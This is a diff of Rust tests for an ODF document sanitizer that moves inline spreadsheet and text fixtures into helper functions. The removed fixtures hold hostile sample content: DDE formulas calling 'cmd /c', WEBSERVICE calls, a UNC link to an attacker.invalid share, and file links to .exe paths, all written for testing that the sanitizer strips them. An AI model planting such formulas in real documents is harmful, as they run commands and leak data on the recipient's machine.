@@ -128,21 +128,7 @@ fn password_protected_packages_are_held() {
 // ---------------------------------------------------------------------------------------------
 
 /// A marker carried by every hostile link and formula below: it must not survive anywhere.
-const MARK: &str = "MUKAIKA-MARK";
-
-/// An ODF package of the given type with one content part and a picture.
-fn odf_of(mimetype: &str, content: &str) -> Vec<u8> {
-    let manifest = format!(
-        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"{mimetype}\"/><manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/><manifest:file-entry manifest:full-path=\"Pictures/logo.png\" manifest:media-type=\"image/png\"/></manifest:manifest>"
-    );
-    let png = tiny_png();
-    zip_of(&[
-        ("mimetype", mimetype.as_bytes()),
-        ("META-INF/manifest.xml", manifest.as_bytes()),
-        ("content.xml", content.as_bytes()),
-        ("Pictures/logo.png", &png),
-    ])
-}
+const MARK: &str = HIDDEN_MARK;
 
 /// Sanitizes a package and checks no member of the output holds the marker, and that a
 /// second pass removes nothing.
@@ -161,21 +147,12 @@ fn assert_marker_gone(name: &str, input: &[u8]) -> mukaika_sanitizers::Outcome {
 
 #[test]
 fn links_under_any_prefix_bound_to_xlink_are_judged() {
-    let content = format!(
-        r#"<?xml version="1.0" encoding="UTF-8"?>
-<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:foo="http://www.w3.org/1999/xlink" office:version="1.2"><office:body><office:text>
-<text:p>本文</text:p>
-<text:p><draw:frame draw:name="unc" svg:width="1cm" svg:height="1cm"><draw:image foo:href="\\attacker.invalid\share\{MARK}-1.png" foo:type="simple"/></draw:frame></text:p>
-<text:p><text:a foo:type="simple" foo:href="file:///C:/{MARK}-2.exe">ファイルへのリンク</text:a></text:p>
-<text:p><draw:frame draw:name="logo" svg:width="1cm" svg:height="1cm"><draw:image foo:href="Pictures/logo.png" foo:type="simple"/></draw:frame></text:p>
-</office:text></office:body></office:document-content>"#
-    );
     // Links kept by policy: only web and mail links may stay, whatever their prefix.
     let policy = Policy {
         keep_links: true,
         ..Policy::default()
     };
-    let input = odf_of("application/vnd.oasis.opendocument.text", &content);
+    let input = odt_with_prefixed_xlink();
     assert_marker_gone("prefix.odt", &input);
     let outcome = process_with(&input, "prefix.odt", &policy);
     assert!(
@@ -199,31 +176,7 @@ fn links_under_any_prefix_bound_to_xlink_are_judged() {
 
 #[test]
 fn spreadsheet_formulas_names_and_conditions_that_reach_outside_go() {
-    let content = format!(
-        r#"<?xml version="1.0" encoding="UTF-8"?>
-<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" office:version="1.2"><office:body><office:spreadsheet>
-<table:content-validations><table:content-validation table:name="val1" table:condition="of:cell-content-is-in-list(['file:///C:/{MARK}-v.ods'#$Sheet1.A1:.A3])" table:allow-empty-cell="true" table:base-cell-address="Sheet1.A2"/></table:content-validations>
-<table:table table:name="Sheet1">
-<table:table-row>
-<table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>
-<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c {MARK}-1&quot;;&quot;A1&quot;)" office:value-type="float" office:value="10"><text:p>10</text:p></table:table-cell>
-<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://{MARK}-2.invalid/&quot;)" office:value-type="string" office:string-value="応答"><text:p>応答</text:p></table:table-cell>
-<table:table-cell table:formula="of:=['file:///C:/{MARK}-3.ods'#$Sheet1.A1]" office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell>
-<table:table-cell table:formula="of:=HYPERLINK(&quot;file:///C:/{MARK}-4.exe&quot;;&quot;開く&quot;)" office:value-type="string" office:string-value="開く"><text:p>開く</text:p></table:table-cell>
-<table:table-cell table:formula="of:=SUM([.A1])" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>
-</table:table-row>
-<table:table-row><table:table-cell table:content-validation-name="val1" office:value-type="float" office:value="3"><text:p>3</text:p></table:table-cell></table:table-row>
-<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="Sheet1.A1:Sheet1.A1"><calcext:condition calcext:apply-style-name="Default" calcext:value="formula-is(WEBSERVICE(&quot;http://{MARK}-9.invalid&quot;))" calcext:base-cell-address="Sheet1.A1"/></calcext:conditional-format></calcext:conditional-formats>
-</table:table>
-<table:named-expressions>
-<table:named-range table:name="遠隔" table:base-cell-address="$Sheet1.$A$1" table:cell-range-address="'file:///C:/{MARK}-5.ods'#$Sheet1.$A$1"/>
-<table:named-expression table:name="ウェブ" table:base-cell-address="$Sheet1.$A$1" table:expression="of:WEBSERVICE(&quot;http://{MARK}-6.invalid/&quot;)"/>
-<table:named-expression table:name="交換" table:base-cell-address="$Sheet1.$A$1" table:expression="of:DDE(&quot;cmd&quot;;&quot;/c {MARK}-7&quot;;&quot;x&quot;)"/>
-<table:named-range table:name="範囲" table:base-cell-address="$Sheet1.$A$1" table:cell-range-address="$Sheet1.$A$1:.$A$2"/>
-</table:named-expressions>
-</office:spreadsheet></office:body></office:document-content>"#
-    );
-    let input = odf_of("application/vnd.oasis.opendocument.spreadsheet", &content);
+    let input = ods_with_outside_formulas();
     let outcome = assert_marker_gone("集計.ods", &input);
     for (what, needle) in [
         (What::ExternalReference, "content-validation"),
